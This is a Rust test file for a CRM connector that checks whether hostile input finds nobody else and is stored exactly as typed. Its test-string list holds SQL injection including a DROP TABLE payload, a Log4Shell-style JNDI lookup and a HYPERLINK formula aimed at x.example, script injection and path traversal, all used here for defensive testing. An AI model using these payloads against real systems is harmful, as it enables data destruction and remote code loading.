//! Values that are more than they seem: quotes, operators, line breaks, wildcards. Nothing else is found by them, and what is
//! stored is what was typed.

use std::sync::Arc;

use ringside_domain::Kind;

use super::{Behaviour, behaviour, creates, finds, finds_names, logs, updates};
use crate::{
    asking::{NUMBER, Steady, cx, draft, entry, named, none_failed, plant, query},
    crm::{FakeCrm, Purpose},
    kits::Case,
};

pub const ALL: &[Behaviour] = &[
    behaviour!(hostile::a_name_finds_nobody_else, |offer| finds_names(offer)
        .or(finds(offer))),
    behaviour!(hostile::a_hostile_name_finds_its_bearer, finds_names),
    behaviour!(hostile::a_name_is_stored_as_typed_or_refused, creates),
    behaviour!(hostile::a_company_is_stored_as_typed_or_refused, creates),
    behaviour!(hostile::a_note_is_stored_as_typed, logs),
    behaviour!(hostile::a_changed_note_is_stored_as_typed, updates),
];

/// What people type, paste, and try.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "O'Hara \"the fox\" O'Neil",
        "x' OR '1'='1",
        "x\" OR name:*",
        "x OR Anna OR y",
        "x* OR *",
        "Robert'); DROP TABLE contacts;--",
        "%%",
        "__ %25 %00",
        "a) OR (isDeleted:false",
        "\\\" \\\\ \\",
        "{{ secret.token }} {% for x in y %}",
        "${jndi:ldap://x.example/a}",
        "<script>alert(1)</script> &amp; <b>bold</b>",
        "first\nsecond\r\nthird\ttabbed",
        "👩‍👩‍👧 ☎️ 𝕏",
        "a&b=c?d#e/f+g",
        "../../admin",
        "[\"a\",{\"b\":null}]",
        "\u{202e}desrever\u{202c} e\u{301}",
        "NOT AND && || ! ^ ~ * ? : /",
        "=HYPERLINK(\"https://x.example\")",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("long ".repeat(1_000).trim_end().to_owned());
    texts
}

async fn a_name_finds_nobody_else(case: Case) {
    plant(&case, "Anna", "Example", &[NUMBER]).await;
    plant(&case, "Bill", "Lumbergh", &["(212) 555-0177"]).await;
    for text in hostile() {
        if let Some(wire) = case.crm.wire() {
            wire.forget_exchanges();
        }
        let found = case.connector.find_contact_with_name(cx(), query(&text)).await;
        let found = found.unwrap_or_else(|error| panic!("{text:?}: {error:?}"));
        none_failed(&found);
        let names: Vec<&str> = found.contacts.iter().map(|contact| contact.name.as_str()).collect();
        assert!(names.is_empty(), "{text:?} found {names:?}");
        // What is filtered here was still brought by a query that meant something else there.
        for exchange in case.crm.wire().map(FakeCrm::exchanges).unwrap_or_default() {
            let reply = exchange.reply.map(|reply| reply.body).unwrap_or_default();
            let reply = String::from_utf8_lossy(&reply);
            // What is no letter and no digit can't be asked for in every language: there everybody came, and was left out here.
            let brought = text.chars().any(char::is_alphanumeric)
                && exchange.purpose == Purpose::Find
                && (reply.contains("Anna") || reply.contains("Lumbergh"));
            assert!(!brought, "{text:?} brought {reply}");
        }
    }
}

async fn a_hostile_name_finds_its_bearer(case: Case) {
    for (given, family) in [
        ("Seán", "O'Brien"),
        ("Al \"Ace\"", "Smith"),
        ("Jo", "Smith-Jones (née Lee)"),
        ("R&D", "50% Off"),
    ] {
        let id = plant(&case, given, family, &[NUMBER]).await;
        let found = named(&case, family).await;
        assert!(
            found.iter().any(|contact| contact.id == id),
            "{family:?} found {found:?}"
        );
    }
}

async fn a_name_is_stored_as_typed_or_refused(case: Case) {
    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    for kind in case.connector.info().types.into_iter().filter(|kind| kind.creatable) {
        for text in hostile() {
            let before = case.crm.planted().await.len();
            let created = case
                .connector
                .create_contact(cx(), draft(&case, &kind.id, &text, None))
                .await;
            let stored = case.crm.planted().await;
            match created {
                Ok(contact) => {
                    let (_, person) = stored.into_iter().find(|(id, _)| *id == contact.id.id).unwrap();
                    // `Family, Given` is a name in another order.
                    let turned = text
                        .split_once(',')
                        .map(|(family, given)| words(&format!("{given} {family}")));
                    let stored = words(&person.name());
                    assert!(
                        stored == words(&text) || Some(&stored) == turned.as_ref(),
                        "as a {}: {stored:?} out of {text:?}",
                        kind.id
                    );
                }
                Err(error) => {
                    assert_eq!(error.kind, Kind::Invalid, "{text:?}: {error:?}");
                    assert_eq!(stored.len(), before, "{text:?} was refused and stored all the same");
                    assert!(text.len() > 1_000, "{text:?} was refused: {error:?}");
                }
            }
        }
    }
}

/// A company is looked for before it is made, so its name goes through a query as well.
async fn a_company_is_stored_as_typed_or_refused(case: Case) {
    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let takes = |field: &ringside_domain::contact::FieldSpec| field.name == "company";
    let types = case.connector.info().types.into_iter();
    for kind in types.filter(|kind| kind.creatable && kind.fields.iter().any(takes)) {
        for (at, text) in hostile().into_iter().filter(|text| text.len() < 100).enumerate() {
            // Twice: the second time it is there, and found by its name.
            for turn in 0..2 {
                let mut new = draft(&case, &kind.id, &format!("Dana Person{at}x{turn}"), None);
                new.company = Some(text.clone());
                let created = case.connector.create_contact(cx(), new.clone()).await;
                let created = created.unwrap_or_else(|error| panic!("{text:?}: {error:?}"));
                let stored = case.crm.planted().await;
                let (_, person) = stored.into_iter().find(|(id, _)| *id == created.id.id).unwrap();
                let company = person.company.map(|company| words(&company));
                assert_eq!(company, Some(words(&text)), "as a {}", kind.id);
            }
        }
    }
}

/// A line break is a line break, whichever sort was typed.
fn lines(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n")
}

async fn a_note_is_stored_as_typed(case: Case) {
    let anna = plant(&case, "Anna", "Example", &[NUMBER]).await;
    let plain = entry(&case, &anna, "").await;
    for (at, text) in hostile().into_iter().enumerate() {
        let mut entry = plain.clone();
        entry.note.clone_from(&text);
        entry.marker = ringside_domain::Marker::new(format!("ringside-hostile{at:02}"), true);
        let logged = case.connector.log_call(cx(), entry, Arc::new(Steady::default())).await;
        let log = logged.unwrap_or_else(|error| panic!("{text:?}: {error:?}")).log;
        let logs = case.crm.logs().await;
        let stored = logs.into_iter().find(|one| one.id == log.id).unwrap().text;
        let stored = stored.unwrap_or_else(|wrong| panic!("{text:?}: {wrong}"));
        assert!(lines(&stored).contains(&lines(&text)), "{text:?} became {stored:?}");
    }
}

async fn a_changed_note_is_stored_as_typed(case: Case) {
    let anna = plant(&case, "Anna", "Example", &[NUMBER]).await;
    let mut entry = entry(&case, &anna, "first").await;
    let log = case
        .connector
        .log_call(cx(), entry.clone(), Arc::new(Steady::default()))
        .await
        .unwrap()
        .log;
    for text in hostile() {
        entry.note.clone_from(&text);
        case.connector
            .update_log(cx(), log.clone(), entry.clone())
            .await
            .unwrap();
        let stored = case.crm.logs().await.remove(0).text;
        let stored = stored.unwrap_or_else(|wrong| panic!("{text:?}: {wrong}"));
        assert!(lines(&stored).contains(&lines(&text)), "{text:?} became {stored:?}");
    }
}
